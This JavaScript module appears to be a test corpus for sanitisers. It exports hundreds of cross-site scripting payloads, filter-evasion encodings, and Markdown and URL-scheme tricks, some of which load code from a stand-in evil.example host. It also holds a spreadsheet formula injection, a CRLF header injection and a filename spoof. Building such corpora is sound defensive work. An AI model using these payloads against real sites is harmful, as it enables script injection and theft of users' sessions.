// Texts that have broken other sites: the Big List of Naughty Strings, and ways to run a script that sanitisers have let
// through or that scanners try: out of every place, of every generation of browser. Each carries a mark, so that what ran can be told.

import { createRequire } from "node:module";

/** Ways to run a script, from places where markup, Markdown, addresses, styles and other languages meet. */
export const scripts = [
	"<script>ran()</script>",
	"<ScRiPt src=//evil.example/x.js></ScRiPt>",
	"\"><script>ran()</script>",
	"'><svg/onload=ran()>",
	"</title><script>ran()</script>",
	"</textarea><script>ran()</script>",
	"</style></script><script>ran()</script>",
	"--><script>ran()</script><!--",
	"]]><script>ran()</script>",
	"<img src=x onerror=ran()>",
	"<img/src/onerror=ran()//",
	"<image href=x onerror=ran()>",
	"<body onload=ran()>",
	"<details open ontoggle=ran()>x</details>",
	"<video><source onerror=ran()></video>",
	"<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
	"<iframe src=javascript:parent.ran()></iframe>",
	"<object data=javascript:ran()></object>",
	"<embed src=javascript:ran()>",
	"<form action=javascript:ran()><button autofocus>x</button></form>",
	"<input autofocus onfocus=ran()>",
	"<a href=javascript:ran()>x</a>",
	"<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
	"<svg><style><img src=x onerror=ran()></style></svg>",
	"<noscript><p title=\"</noscript><img src=x onerror=ran()>\"></noscript>",
	"<template><script>ran()</script></template>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<base href=//evil.example/>",
	"<meta http-equiv=refresh content='0;url=//evil.example/'>",
	"<style>@import'//evil.example/x.css';</style>",
	"<p style=background:url(//evil.example/x.png)>x</p>",
	"[x](javascript:ran())",
	"[x](JaVaScRiPt:ran())",
	"[x](java\tscript:ran())",
	"[x](javascript&colon;ran())",
	"[x](&#106;avascript:ran())",
	"[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
	"[x](vbscript:ran())",
	"[x](//evil.example/ \"onmouseover=ran()\")",
	"![x](javascript:ran())",
	"![x](https://evil.example/x.png)",
	"![x\" onerror=\"ran()](https://evil.example/x.png)",
	"<javascript:ran()>",
	"[x]: javascript:ran()\n\n[x]",
	"`<script>ran()</script>`",
	"```\"onload=ran()\n<script>ran()</script>\n```",
	"```language-<script>\nx\n```",
	"| <script>ran()</script> | x |\n|---|---|\n| <img src=x onerror=ran()> | [x](javascript:ran()) |",
	"[^1]: <script>ran()</script>\n\nx[^1]",
	"- [ ] <script>ran()</script>",
	"# <script>ran()</script> {#onload=ran()}",
	"{{constructor.constructor('ran()')()}}",
	"${ran()} #{ran()} <%= ran() %> {ran()}",
	"\u2028ran()\u2029",
	"\\u003cscript\\u003eran()\\u003c/script\\u003e",
	"%3Cscript%3Eran()%3C/script%3E",
	"&lt;script&gt;ran()&lt;/script&gt;",
	"＜script＞ran()＜/script＞",
	"=cmd|'/c calc'!A1",
	"\r\nSet-Cookie: stolen=1\r\n\r\n<script>ran()</script>",
	"x\u202Etxt.exe\u202C",
	"Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮".repeat(3),
	"W".repeat(190),
	"あ".repeat(190),
];

/** What ends the place that a text may have been put in by mistake: an attribute, an element of raw text, a comment, a script. */
const ways_out = [
	"", "\">", "'>", "`>", ">", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</option></select>", "</iframe>",
	"</xmp>", "-->", "--!>", "]]>", "*/", "\";", "';", "\\\";", "\n", "\u0000",
];

/** What would run where markup is taken as it is: elements and handlers of every generation, written so that filters miss them. */
const runs = [
	"<sCrIpT>ran()</ScRiPt>", "<script\t>ran()</script\n>", "<script/x>ran()</script>", "<<script>ran();//<</script>", "<script>ran()",
	"<scr<script>ipt>ran()</scr</script>ipt>", "<scr\u0000ipt>ran()</script>", "<script x=\">\">ran()</script>",
	"<svg><script>ran()</script></svg>", "<svg><script href=data:,ran()></script></svg>", "<svg><animate onbegin=ran() attributeName=x dur=1s>",
	"<svg><set attributeName=onmouseover to=ran()>", "<svg><a xlink:href=javascript:ran()><text y=9>x</text></a></svg>",
	"<svg><use href=data:image/svg+xml,x#x></svg>", "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
	"<math href=javascript:ran()>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>",
	"<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>",
	"<img src=x onerror\n=\nran()>", "<img src=x oNeRrOr=ran()>", "<img src=x onerror=&#114;an()>", "<img src=x onerror=\"ran()\"", "<img\fsrc=x\fonerror=ran()>",
	"<img src=\"x\"onerror=\"ran()\">", "<img src='x''onerror='ran()'>", "<img `src`=x onerror=ran()>", "<img dynsrc=javascript:ran()>",
	"<img lowsrc=javascript:ran()>", "<img srcset=x,javascript:ran() onerror=ran()>", "<picture><source srcset=x onerror=ran()><img onerror=ran() src=x></picture>",
	"<input type=image src=x onerror=ran()>", "<button formaction=javascript:ran()>x</button>", "<isindex type=image src=x onerror=ran()>",
	"<select autofocus onfocus=ran()><option>x</select>", "<textarea autofocus onfocus=ran()>x</textarea>", "<keygen autofocus onfocus=ran()>",
	"<marquee onstart=ran()>x</marquee>", "<audio src onloadstart=ran()>", "<video poster=javascript:ran()></video>", "<bgsound src=javascript:ran()>",
	"<frameset onload=ran()>", "<iframe src=&#x6a;avascript:parent.ran()>", "<iframe srcdoc=&lt;script&gt;parent.ran()&lt;/script&gt;>",
	"<object type=text/html data=data:text/html,x></object>", "<applet code=javascript:ran()></applet>", "<layer src=javascript:ran()>x</layer>",
	"<table background=javascript:ran()><td background=javascript:ran()>x</table>", "<body background=javascript:ran()>",
	"<div style=width:expression(ran())>x</div>", "<div style=behavior:url(#default#time2) onbegin=ran()>x</div>",
	"<div style=-moz-binding:url(//evil.example/x.xml#x)>x</div>", "<div style=list-style:url(javascript:ran())>x</div>",
	"<link rel=import href=//evil.example/x>", "<link rel=preload as=script href=//evil.example/x.js>", "<?xml-stylesheet href=javascript:ran()?>",
	"<!--[if gte IE 4]><script>ran()</script><![endif]-->", "<!--><img src=x onerror=ran()>-->", "<![CDATA[<img src=x onerror=ran()>]]>",
	"<p/onclick=ran()>x</p>", "<p onclick\u00a0=ran()>x</p>", "<p contenteditable onbeforeinput=ran()>x</p>", "<x onpointerenter=ran() style=display:block>x</x>",
	"<dialog open onclose=ran()><form method=dialog><button autofocus>x</button></form></dialog>", "<p popover id=p onbeforetoggle=ran()>x</p>",
	"<base target=_blank href=javascript:ran()//>", "<slot onslotchange=ran()>x</slot>", "<details/open/ontoggle=ran()>", "<plaintext>ran()",
	"+ADw-script+AD4-ran()+ADw-/script+AD4-", "\u00bcscript\u00beran()\u00bc/script\u00be",
];

/** Addresses that would run: the scheme broken up, hidden, or of another kind. */
const addresses = [
	"javascript:ran()", "JAVASCRIPT:ran()", " javascript:ran()", "\u0001javascript:ran()", "java\nscript:ran()", "java\u0000script:ran()",
	"javascript\u00a0:ran()", "javascript&#58;ran()", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:ran()", "javascript&Tab;:ran()",
	"jav&#x09;ascript:ran()", "javascript://%0aran()", "feed:javascript:ran()", "view-source:javascript:ran()", "livescript:ran()", "mocha:ran()",
	"data:text/html,<script>ran()</script>", "data:image/svg+xml,<svg onload=ran()>", "data:application/xhtml+xml;base64,PHg+", "blob:null/x",
	"filesystem:x", "jar:javascript:ran()", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "//evil.example\\@x",
];

/** Every way out with one thing that runs, everything that runs alone, and every address where an address can stand. */
const composed = [
	...ways_out.map((out, at) => `${out}${runs[(at * 7) % runs.length]}`),
	...runs,
	...addresses.flatMap((to) => [`[x](${to})`, `<a href="${to}">x</a>`]),
	...addresses.map((to) => `![x](<${to}>) [x]: <${to}> "onerror=ran()"`),
];

/** The Big List, without the one string that only asks a screen reader to say something long. */
const naughty = createRequire(import.meta.url)("big-list-of-naughty-strings/blns.json").filter((text) => text.trim() !== "");

/** All of them, ours first. */
export const hostile = [...scripts, ...composed, ...naughty];
